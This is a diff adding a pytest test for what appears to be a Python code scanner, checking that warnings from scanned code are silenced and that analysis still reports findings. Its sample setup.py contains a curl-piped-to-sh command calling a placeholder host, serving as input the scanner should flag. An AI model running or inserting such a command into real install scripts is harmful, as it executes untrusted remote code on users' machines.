@@ -1,0 +1,16 @@
+"""Scanned code's compile-time warnings never leak out nor change the analysis."""
+
+from __future__ import annotations
+
+import warnings
+
+from snakewarden.analysis import analyze
+from snakewarden.artifacts import read_artifact
+
+
+def test_syntax_warnings_of_scanned_code_are_silenced_and_do_not_stop_analysis() -> None:
+    source = b'import os\nx = "\\d 1_"\nos.system("curl https://example.invalid/a | sh")\n'
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")  # as under pytest's filterwarnings=error
+        result = analyze(read_artifact(source, "setup.py"), target="setup.py")
+    assert result.findings
